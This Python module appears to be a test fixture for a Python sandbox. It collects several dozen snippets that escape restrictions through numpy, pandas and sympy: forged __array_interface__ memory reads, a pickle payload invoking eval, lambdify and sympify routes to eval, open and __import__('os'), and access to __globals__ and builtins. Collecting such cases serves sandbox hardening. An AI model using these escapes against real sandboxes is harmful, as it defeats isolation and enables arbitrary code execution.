"""Ways through numpy, pandas and sympy that were found by attack. Each returns what it reached, where nothing stops it."""

_INTERFACE = "{'data': (id(None), False), 'shape': (8,), 'typestr': '|u1', 'version': 3}"

PACKAGE_ESCAPES = {
    "a metaclass of pandas": """
import pandas as pd
def f(): return pd.CategoricalDtype.type("C", (), {"__getattr__": lambda self, name: name}).__name__""",
    "an interface by __getattr__": f"""
import numpy as np
class A:
    def __getattr__(self, name):
        if name == "__array_interface__": return {_INTERFACE}
        raise AttributeError(name)
def f(): return [int(b) for b in np.asarray(A())]""",
    "an interface in a namespace": f"""
import numpy as np
import types
def f():
    return [int(b) for b in np.asarray(types.SimpleNamespace(**{{"__array_interface__": {_INTERFACE}}}))]""",
    "an interface in a series": f"""
import numpy as np
import pandas as pd
class D(pd.DataFrame):
    def __getitem__(self, key):
        return {_INTERFACE} if key == "__array_interface__" else super().__getitem__(key)
def f(): return [int(b) for b in np.asarray(D({{"__array_interface__": [1]}}))]""",
    "an interface of a metaclass's class": f"""
import numpy as np
import sympy
def f():
    X = sympy.FunctionClass("X", (sympy.Function,), {{"__array_interface__": {_INTERFACE}}})
    return [int(b) for b in np.asarray(X(1))]""",
    "an interface of a ring": f"""
import numpy as np
import sympy
def f():
    R = sympy.ring("__array_interface__", sympy.ZZ)[0]
    g = R.gens[0]
    g.clear()
    for key, value in {_INTERFACE}.items(): g[key] = value
    return [int(b) for b in np.asarray(R)]""",
    "an attribute of an undefined function": """
import sympy
def f(): return sympy.Function("F", bases=(sympy.Function,), __dict__={"a": 1}).a""",
    "a name of sympy's that is written into the globals": """
import sympy
def f():
    sympy.var("x")
    return str(x)""",
    "a handler by its name": """
import sympy
class E(sympy.Symbol):
    def get_code(self, name): return "result = 1"
E.__name__ = "exec_module"
class B(sympy.Symbol): kind = sympy.true.kind
def f():
    b = B("b")
    b.__name__ = "x"
    sympy.ask(sympy.Predicate("pp", handlers=["importlib._bootstrap_external.SourceLoader"])(E("e")), b)
    return b.result""",
    "local names that lie": """
import sympy
asked = []
class D(dict):
    def __contains__(self, key):
        asked.append(key)
        return key == "eval"
    def __getitem__(self, key):
        asked.append(key)
        if len(asked) > 3: raise KeyError(key)
        return 1
def f(): return str(sympy.sympify("eval('1 + 1')", locals=D(a=1)))""",
    "a special method by its name": """
import pandas as pd
def f(): return str(pd.Series([1, 2]).agg("__reduce_ex__", 0, 2))""",
    "a special method by its name for groups": """
import pandas as pd
def f(): return str(pd.DataFrame({"a": [1], "b": [2]}).groupby("a").agg("__len__"))""",
    "a special method by its name in a list": """
import pandas as pd
def f(): return str(pd.DataFrame({"a": [1, 2]}).agg({"a": ["__len__"]}))""",
    "a writer by its name": """
import pandas as pd
def f(): return pd.Series([1]).agg("to_json")""",
    "a pickle by a function's name": """
import io
import pandas as pd
class S(pd.Series):
    def read(self, n=-1): return data.read(n)
    def readline(self): return data.readline()
    def seek(self, *a): return data.seek(*a)
    def tell(self): return data.tell()
data = io.BytesIO(b"cbuiltins\\neval\\n(V1 + 1\\ntR.")
def f(): return str(S([1]).agg("load", 0, None, True))""",
    "an archive": """
import io
import pandas as pd
def f():
    to = io.BytesIO()
    pd.DataFrame({"a": [1]}).to_csv(to, compression={"method": "tar", "archive_name": "x"})
    to.seek(0)
    return str(pd.read_csv(to, compression="tar", iterator=True).handles.created_handles[1].buffer)""",
    "text written to a device": """
import pandas as pd
def f():
    pd.DataFrame({"a": [1]}).to_string("/dev/null")
    return 1""",
    "a page written to a device": """
import pandas as pd
def f():
    pd.DataFrame({"a": [1]}).to_html("/dev/null")
    return 1""",
    "a series written to a device": """
import pandas as pd
def f():
    pd.Series([1]).to_string("/dev/null")
    return 1""",
    "a view of freed memory": """
import numpy as np
def f():
    a = np.zeros(64)
    view = a[:]
    a.resize(1, refcheck=False)
    return view.shape""",
    "a generator's state": """
import numpy as np
def f():
    state = np.random.RandomState(1)
    kind, keys, *_ = state.get_state()
    state.set_state((kind, keys, 625))
    return 1""",
    "a printer that prints by any method": """
import sympy
got = []
class P(sympy.StrPrinter, str):
    printmethod = "__getattribute__"
    def __init__(self, *a): self._print_level = 0
    def _str(self, v):
        got.append(v)
        return "x"
def f():
    P("__globals__").doprint(sympy.solve)
    return str(got.pop()["__builtins__"]["eval"])""",
    "a builtin class by local names that lie": """
import sympy
asked = set()
class D(dict):
    def __contains__(self, key): return key in ("type", "dd")
    def __getitem__(self, key):
        if key in asked: return super().__getitem__(key)
        asked.add(key)
        return 1
def f():
    made = sympy.sympify("type('X', (), dd)", locals=D(dd={"__getattribute__": lambda s, n: n}))
    return made().gi_x""",
    "a builtin class by its name": """
import sympy
asked = set()
class D(dict):
    def __contains__(self, key): return key == "memoryview"
    def __getitem__(self, key):
        if key in asked: raise KeyError(key)
        asked.add(key)
        return 1
def f():
    found = sympy.sympify("memoryview", locals=D(d=1))
    if isinstance(found, sympy.Basic): raise ValueError("it is a symbol")
    return str(found)""",
    "an indexer of any attribute": """
import pandas as pd
L = type(pd.DataFrame({"a": [1]}).loc)
def h(): pass
h.ndim = 1
class O(pd.DataFrame):
    def xs(self, *a, **k): return h
def f(): return str(L("__globals__", O({"a": [1, 2]}, index=[0, 0]))["__name__", "a"])""",
    "a function of mpmath by a class's name": """
import sympy
class A(sympy.Symbol):
    def _to_mpmath(self, prec, allow_ints=True): return self.what
class X(sympy.Function): pass
X.__name__ = "__setattr__"
def f():
    a, b, c = A("a"), A("b"), A("c")
    a.what, b.what, c.what = "sin", lambda v: sympy.Float(7), 1
    try: X(a, b).evalf()
    except TypeError: pass
    if not str(sympy.sin(c).evalf()).startswith("7.0"): raise ValueError("mpmath is as it was")
    return 7""",
    "a context of mpmath by a class's name": """
import sympy
class A(sympy.Symbol):
    def _to_mpmath(self, prec, allow_ints=True): return self.what
class monitor(sympy.Function): pass
def f():
    a, b = A("a"), A("b")
    a.what, b.what = abs, print
    try: monitor(a, b).evalf()
    except TypeError: return "it was called"
    raise ValueError("it was not called")""",
    "an interface of a polynomial ring": f"""
import numpy as np
import sympy
def f():
    R = sympy.PolynomialRing(sympy.ZZ, [sympy.Symbol("__array_interface__")]).ring
    g = R.gens[0]
    g.clear()
    for key, value in {_INTERFACE}.items(): g[key] = value
    return [int(b) for b in np.asarray(R)]""",
    "an interface of a domain's ring": f"""
import numpy as np
import sympy
def f():
    R = sympy.ZZ.poly_ring(sympy.Symbol("__array_interface__")).ring
    g = R.gens[0]
    g.clear()
    for key, value in {_INTERFACE}.items(): g[key] = value
    return [int(b) for b in np.asarray(R)]""",
    "a field's attribute by its symbol": """
import sympy
def f(): return str(sympy.ZZ.frac_field(sympy.Symbol("__array_interface__")).field.__array_interface__)""",
    "an interface of a registered class": f"""
import numpy as np
import sympy
class C:
    def __new__(cls): return {_INTERFACE}
C.__name__ = "__array_interface__"
def f():
    sympy.S.register(C)
    return [int(b) for b in np.asarray(sympy.S)]""",
    "an interface of flags": f"""
import numpy as np
import pandas as pd
class L(str):
    def __hash__(self):
        L.n += 1
        return hash("allows_duplicate_labels") if L.n == 1 else hash("__array_interface__")
    def __eq__(self, o): return L.n == 1 or str(o) == "__array_interface__"
def f():
    d = pd.DataFrame({{"a": [1]}})
    flags = d.flags
    L.n = 0
    flags[L("__array_interface__")] = {_INTERFACE}
    return [int(b) for b in np.asarray(flags)]""",
    "any attribute of flags": """
import pandas as pd
class L(str):
    def __hash__(self):
        L.n += 1
        return hash("allows_duplicate_labels") if L.n == 1 else hash("__dict__")
    def __eq__(self, o): return L.n == 1 or str(o) == "__dict__"
def f():
    d = pd.DataFrame({"a": [1]})
    L.n = 0
    return str(d.flags[L("__dict__")])""",
    "an interface in place of an axis": f"""
import numpy as np
import pandas as pd
class Names(list):
    def __getitem__(self, i): return "__array_interface__" if D.go else super().__getitem__(i)
class D(pd.DataFrame):
    go = False
    _AXIS_ORDERS = Names(["index", "columns"])
    @property
    def _constructor(self): return D
    def copy(self, *a, **k):
        r = super().copy(*a, **k)
        D.go = True
        return r
def f():
    e = D({{"a": [1, 2, 3, 4]}}).set_axis({_INTERFACE}, axis=0)
    return [int(b) for b in np.asarray(e)]""",
    "any attribute in place of an axis": """
import pandas as pd
class D(pd.DataFrame):
    _info_axis_name = "__dict__"
def f(): return str(type(D({"a": [1]}).keys()))""",
    "the manager in place of an axis": """
import pandas as pd
class D(pd.DataFrame):
    _info_axis_name = "_mgr"
def f(): return str(type(D({"a": [1]}).keys()))""",
    "special names as metadata": """
import pandas as pd
class D(pd.DataFrame):
    _metadata = ["__dict__"]
    @property
    def _constructor(self): return D
def f():
    d = D({"a": [1]})
    return d.copy().__dict__ is d.__dict__""",
    "a special method of a grand total": """
import pandas as pd
class F(dict):
    def __call__(self): pass
    def __getitem__(self, key): return "__len__"
def f():
    d = pd.DataFrame({"k": ["a", "b"], "v": [1, 2]})
    return str(pd.pivot_table(d, index="k", values=["v"], aggfunc=F(v="sum"), margins=True))""",
    "a builtin in a function of lambdify": """
import sympy
def f(): return str(sympy.lambdify([], "eval")())""",
    "an attribute in a function of lambdify": """
import sympy
def f(): return str(sympy.lambdify([], "().__class__")())""",
    "an argument's default in a function of lambdify": """
import sympy
def f(): return str(sympy.lambdify(["x=open"], "x")())""",
    "a name that means two things in a function of lambdify": """
import sympy
def f(): return str(sympy.lambdify([], "([eval for eval in ()], eval)")())""",
    "an expression that prints a program": """
import sympy
class E(sympy.Symbol):
    def _numpycode(self, printer): return "().__class__"
def f(): return str(sympy.lambdify([], E("e"))())""",
    "a printer that prints a program": """
import sympy
def f(): return str(sympy.lambdify([], sympy.Symbol("x"), printer=lambda e: "__import__('os')")())""",
    "an import in a function of lambdify": """
import sympy
class E(sympy.Symbol):
    def _numpycode(self, printer):
        printer.module_imports["os"].add("getcwd as found")
        return "found()"
def f(): return sympy.lambdify([], E("e"))()""",
    "a file's reader in a function of lambdify": """
import sympy
def f(): return str(sympy.lambdify([], "load")())""",
    "the insides of a class in a function of lambdify": """
import numpy as np
import sympy
def f(): return str(sympy.lambdify([], "resize", [np.ndarray])())""",
    "the module of builtins in a function of lambdify": """
import sympy
def f(): return str(sympy.lambdify([], "builtins")())""",
    "a property's getter of sympy": """
import sympy
def f(): return str(sympy.Basic.func.fget(int))""",
    "a method of sympy on a class": """
from sympy.combinatorics import Permutation
class C: array_form = int
def f(): return str(Permutation.copy(C)("C", (), {"__getattribute__": lambda s, n: n}).__name__)""",
    "a method of a matrix on an enumeration": """
import sympy
from enum import Enum
class K(Enum): A = 1
class C: copyin_matrix = staticmethod(lambda key, value: value)
def f(): return str(sympy.Matrix.copyin_list(C, 0, K))""",
    "a property's setter of pandas": """
import fractions
import pandas as pd
def f():
    pd.DataFrame.attrs.fset(fractions.Fraction, {"a": 1})
    return fractions.Fraction._attrs""",
    "a copy that is something else": """
import fractions
import pandas as pd
class S(pd.Series):
    def copy(self, *a, **k): return fractions.Fraction
def f():
    S([1]).rename("mine")
    return fractions.Fraction.name""",
    "an enumeration of anything": """
import json
from enum import Enum
import numpy as np
def f():
    class E(np.object_, Enum): A = (json.JSONEncoder,)
    return [E["A"] is json.JSONEncoder, json.JSONEncoder._name_]""",
    "a resized array by an alias": """
import typing
import numpy as np
class A(np.ndarray):
    def __eq__(self, o): return False
    __hash__ = None
def f():
    a = A((64,))
    v = a[:]
    typing.Annotated[a, 1].resize(1, refcheck=False)
    return [list(a.shape), list(v.shape)]""",
    "a generator's state by an alias": """
import typing
import numpy as np
def f():
    r = np.random.RandomState(1)
    typing.Annotated[np.random.RandomState, 1].set_state(r, np.random.RandomState(2).get_state())
    return r.randint(9)""",
    "the blocks of a table": """
import pandas as pd
class D(pd.DataFrame): pass
def f():
    m = D({"a": [1]})._mgr
    return len(m.from_blocks((object,), m.axes).apply("__subclasses__").blocks)""",
    "memory by a node": f"""
import ast
import numpy as np
def f():
    n = ast.parse("a").body[0].value
    n.__init__(__array_interface__={_INTERFACE})
    return [int(b) for b in np.asarray(n)]""",
    "an accessor by an alias": """
import typing
import numpy as np
def f(): return str(typing.Annotated[np.ndarray, ""].ctypes)""",
    "what a dispatcher of sympy was asked for": """
import sympy
def f():
    try: sympy.Q.even.handler(int)
    except NotImplementedError as e: return str(e.__context__.args[0][0])""",
    "an expression that is a class": """
import sympy
class K(sympy.logic.boolalg.Boolean):
    is_Atom = False
    args = ("C", (), {"__getattribute__": lambda s, n: n})
def f(): return sympy.use(K, lambda x: x, 1)().gi""",
    "a method of a class that nothing offers": """
import sympy
class X:
    def cancel(self): return self
    def expand(self, **k): return int
def f(): return str(sympy.EX.dtype.simplify(int, X()))""",
    "a text for mpmath": """
import sympy
def f():
    mp = sympy.Float(1).num.context
    return str(mp.identify(mp.mpf("0.123456789"), ["__import__('os').getpid()"]) or 1)""",
    "a setter's name of pandas": """
import fractions
import pandas as pd
ax = pd.MultiIndex.from_tuples([(1, 2)])
class L:
    def __getitem__(self, k): return fractions.Fraction
class K:
    truncate = pd.DataFrame.truncate
    _AXIS_LEN, loc = 1, L()
    def _check_copy_deprecation(self, c): pass
    def _get_axis_number(self, a): return 0
    def _get_axis(self, a): return ax
    def _get_axis_name(self, a): return "mine"
def f():
    try: K().truncate()
    except AttributeError: pass
    return str(fractions.Fraction.mine)""",
    "a method of pandas' arrays": """
import fractions
import pandas as pd
M = pd.Int64Dtype().construct_array_type()
class K:
    view = M.view
    _readonly, _data, _mask = 1, [1], [1]
    def _simple_new(self, *a): return fractions.Fraction
def f():
    K().view()
    return fractions.Fraction._readonly""",
    "an overridden method of sympy": """
import fractions
from sympy.combinatorics import Permutation
class P(Permutation):
    @classmethod
    def unrank_lex(cls, size, rank): return fractions.Fraction
def f():
    P([0, 1]) + 1
    return fractions.Fraction._rank""",
    "a class of classes in an exception": """
import pandas as pd
def f():
    try: pd.DatetimeIndex(["2020-01-01"]).tz_localize(int)
    except TypeError as e: return str(e.args[0]("C", (), {"__getattribute__": lambda s, n: n}).__name__)""",
}  # fmt: skip
